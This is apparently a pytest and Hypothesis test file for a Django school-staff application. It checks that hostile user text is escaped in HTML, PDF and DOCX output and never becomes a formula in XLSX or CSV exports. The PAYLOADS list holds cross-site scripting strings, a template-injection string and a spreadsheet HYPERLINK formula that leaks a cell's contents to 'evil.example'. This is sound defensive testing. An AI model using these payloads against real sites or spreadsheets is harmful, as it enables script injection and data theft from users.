"""Hostile user text goes through HTML, XLSX, CSV, PDF and DOCX as plain text: escaped in pages
(no markup gets in), never a formula in a spreadsheet, never markup in a document."""

import csv
import io
import subprocess
import unicodedata
import zipfile

import pytest
from django.db.models import CharField, TextField, Value
from django.db.models.functions import Cast, Concat, Substr
from django.test import Client
from django.urls import reverse
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from openpyxl import Workbook, load_workbook

from core.files import csv_safe
from schools.models import StaffMember
from tests.matrix import all_cases
from tests.security.helpers import PageInspector
from tests.world import ROLES, World

FIXTURE_OK = settings(max_examples=30, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])

PAYLOADS = [
    "<script>alert(1)</script>",
    '"><img src=x onerror=alert(1)>',
    "'><svg onload=alert(1)>",
    "</textarea><script>alert(1)</script>",
    "javascript:alert(1)",
    "{{ request.user.password }}{% debug %}",
    "=HYPERLINK(\"http://evil.example/?\"&A1,\"x\")",
    "<style>body{display:none}</style>",
    "<a href='javascript:alert(1)' style='x'>x</a>",
]
# Arbitrary text as people type it, plus the markup an attacker would try.
hostile_text = st.one_of(
    st.text(st.characters(blacklist_categories=("Cs",), blacklist_characters="\x00"), min_size=1, max_size=60),
    st.sampled_from(PAYLOADS),
    st.builds(lambda a, b: a + b, st.sampled_from(PAYLOADS), st.text(max_size=20)),
)
# What PostgreSQL and the forms store: no NUL (PostgreSQL refuses it in text).
stored_text = hostile_text.map(lambda s: s.replace("\x00", "")).filter(lambda s: s.strip())


def _same_structure(html: str, baseline: PageInspector) -> PageInspector:
    page = PageInspector(html)
    assert page.tags == baseline.tags, "user text changed the page's markup"
    assert len(page.scripts) == len(baseline.scripts)
    assert not page.inline_handlers and not page.style_attributes and not page.javascript_urls
    return page


# --- HTML -------------------------------------------------------------------------------------

@pytest.fixture
def world(db):
    return World()


@FIXTURE_OK
@given(name=stored_text)
def test_staff_names_are_escaped_in_html_pages(world, name):
    client = Client()
    client.force_login(world.user("deputy"))
    staff = world.colleague
    pages = [reverse("staff_detail", args=[staff.pk]), reverse("organisation_detail", args=[world.school.pk])]
    StaffMember.objects.filter(pk=staff.pk).update(last_name="Baseline", first_name="Name", middle_name="")
    baselines = [PageInspector(client.get(url).content.decode()) for url in pages]

    StaffMember.objects.filter(pk=staff.pk).update(last_name=name[:100], first_name=name[:100], middle_name="")
    for url, baseline in zip(pages, baselines, strict=True):
        response = client.get(url)
        assert response.status_code == 200
        page = _same_structure(response.content.decode(), baseline)
        # The text reaches the page as text (the parser undoes the escaping).
        assert " ".join(name[:100].split()) in " ".join(page.all_text.split())


def _text_fields(model):
    """Free-text fields a user types; not identifiers, codes or structured values such as years."""
    skip = {"password", "username", "email", "url", "code", "slug", "token", "key", "kind", "status"}
    return [
        f.name for f in model._meta.concrete_fields
        if isinstance(f, (CharField, TextField)) and not f.choices and not f.unique and f.name not in skip
        and not f.name.endswith(("_code", "_key", "_url")) and "year" not in f.name
        and f.get_internal_type() in {"CharField", "TextField"}
    ]


PAGES = [c for c in all_cases() if c.method == "get" and 200 in c.expect.values()]
PAYLOAD = '<script>alert("x")</script>"\'><img src=x onerror=alert(1)> =1+1 {{ x }}'


@pytest.mark.parametrize("case", PAGES, ids=[c.id for c in PAGES])
def test_every_page_of_the_matrix_shows_hostile_text_as_text(world, case, tmp_path):
    """Every text field of every row the page could show is set to markup; the page must show
    it escaped: no script without the nonce, no handler, no style attribute gets in."""
    from django.apps import apps

    url = case.url(world)
    for model in apps.get_models():
        fields = _text_fields(model)
        if fields and model._meta.managed and not model._meta.proxy and model._meta.app_label not in {
                "sessions", "axes", "admin", "contenttypes", "auth"}:
            for field in fields:
                # The row's id first keeps values distinct for unique-together constraints.
                # Escaping, not length, is checked here (lengths: see the DOCX test at the end).
                length = min(model._meta.get_field(field).max_length or 60, 60)
                value = Substr(Concat(Cast("pk", CharField()), Value(" " + PAYLOAD), output_field=TextField()), 1, length)
                model.objects.filter(**{f"{field}__gt": ""}).update(**{field: value})
    client = Client()
    for role in ROLES:
        if case.expect[role] != 200:
            continue
        if case.client is not None:  # the API: the role's token instead of a session (tests/matrix/api.py)
            response = case.client(world, role).get(url)
        else:
            client.logout()
            if world.user(role) is not None:
                client.force_login(world.user(role))
            response = client.get(url)
        assert response.status_code == 200, f"{role}: {response.status_code}"
        if response.get("Content-Type", "").startswith("text/html"):
            page = PageInspector(response.content.decode())
            assert all("nonce" in s for s in page.scripts), f"{role}: {page.scripts}"
            assert not page.inline_handlers and not page.style_attributes and not page.javascript_urls, role
            assert 'alert("x")' not in str([s for s in page.scripts])
        elif response.get("Content-Type", "").startswith("application/pdf"):
            printed = _pdf_text(b"".join(response), tmp_path)
            if "alert" in printed:  # the document shows user text: as text, markup and all
                assert '<script>alert("x")</script>' in printed, role
        elif "wordprocessingml" in response.get("Content-Type", ""):
            with zipfile.ZipFile(io.BytesIO(b"".join(response))) as docx:
                xml = docx.read("word/document.xml").decode()
            assert "<script" not in xml and "<img" not in xml, role


# --- XLSX and CSV -----------------------------------------------------------------------------

FORMULA_START = ("=", "+", "-", "@", "\t", "\r", "\n")


@settings(max_examples=300, deadline=None)
@given(text=hostile_text)
def test_csv_safe_text_never_becomes_a_formula_and_always_saves(text):
    value = csv_safe(text)
    assert not value.startswith(FORMULA_START)
    for write_only in (False, True):
        wb = Workbook(write_only=write_only)
        ws = wb.create_sheet("Лист") if write_only else wb.active
        ws.append([value])
        out = io.BytesIO()
        wb.save(out)
        cell = load_workbook(io.BytesIO(out.getvalue())).worksheets[0]["A1"]
        assert cell.data_type != "f"
        assert cell.value in (value, None if not value else value)
        assert not str(cell.value or "").startswith(FORMULA_START)


def test_csv_safe_keeps_other_values_and_ordinary_text():
    assert csv_safe(12) == 12 and csv_safe(None) is None and csv_safe(1.5) == 1.5
    assert csv_safe("Иванова Мария") == "Иванова Мария"
    assert csv_safe("=SUM(A1:A9)") == "'=SUM(A1:A9)"
    assert csv_safe("\x01=1+1") == "'=1+1"


# --- PDF and DOCX of the other apps -----------------------------------------------------------

def _pdf_text(pdf: bytes, tmp_path) -> str:
    path = tmp_path / "doc.pdf"
    path.write_bytes(pdf)
    text = subprocess.run(["pdftotext", "-layout", str(path), "-"], capture_output=True, check=True).stdout.decode()
    return "".join(unicodedata.normalize("NFKC", text).split())


# Printable text the PDF fonts (PT Serif / DejaVu) have glyphs for, so it can be read back.
printable_text = st.one_of(
    st.text(st.sampled_from("abcXYZ0123<>&\"'/=;:{}()[]%!абвгдЖЯё "), min_size=3, max_size=40),
    st.sampled_from(PAYLOADS),
).filter(lambda s: s.strip())


@pytest.fixture
def route(world):
    from tests.routes.factories import ActivityFactory, RouteFactory

    route = RouteFactory(person=world.colleague)
    ActivityFactory(route=route)
    return route


@settings(max_examples=8, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(text=printable_text)
def test_the_iom_pdf_and_docx_print_user_text_as_text(route, tmp_path, text):
    from routes.documents.builders import iom_docx, iom_pdf
    from routes.models import RoadmapActivity, Route

    Route.objects.filter(pk=route.pk).update(topic=text)
    RoadmapActivity.objects.filter(route=route).update(title=text)
    StaffMember.objects.filter(pk=route.person_id).update(last_name=text[:100])
    fresh = Route.objects.get(pk=route.pk)

    printed = _pdf_text(iom_pdf(fresh), tmp_path)
    assert "".join(text.split()) in printed

    with zipfile.ZipFile(io.BytesIO(iom_docx(fresh))) as docx:
        xml = docx.read("word/document.xml").decode()
    assert "<script" not in xml and "<img" not in xml
    from xml.sax.saxutils import escape

    assert escape(text.strip().split()[0]) in xml


@settings(max_examples=15, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(name=hostile_text.map(lambda s: s.replace("\x00", "")).filter(lambda s: s.strip()))
def test_the_route_registry_exports_names_as_plain_cells(route, name):
    from reports.builders import ReportParams, build
    from reports.selectors.registry import registry_queryset
    from routes.models import Route

    StaffMember.objects.filter(pk=route.person_id).update(last_name=name[:100])
    queryset = registry_queryset(Route.objects.filter(pk=route.pk))
    for fmt in ("xlsx", "csv"):
        out = io.BytesIO()
        build("registry", fmt, ReportParams(), out, queryset=queryset)
        if fmt == "xlsx":
            workbook = load_workbook(io.BytesIO(out.getvalue()))
            cells = [c for ws in workbook.worksheets for row in ws.iter_rows() for c in row]
            assert all(c.data_type != "f" for c in cells)
            assert all(c.quotePrefix for c in cells if isinstance(c.value, str) and c.value.startswith(FORMULA_START))
        else:
            rows = list(csv.reader(io.StringIO(out.getvalue().decode("utf-8-sig")), delimiter=";"))
            assert not any(value.startswith(FORMULA_START) for row in rows[1:] for value in row)


def test_the_iom_docx_of_a_teacher_with_the_longest_names_the_form_accepts_downloads(route):
    from routes.documents.builders import iom_docx
    from routes.models import Route

    StaffMember.objects.filter(pk=route.person_id).update(last_name="Д" * 100, first_name="М" * 100,
                                                          middle_name="П" * 100)
    assert zipfile.is_zipfile(io.BytesIO(iom_docx(Route.objects.get(pk=route.pk))))
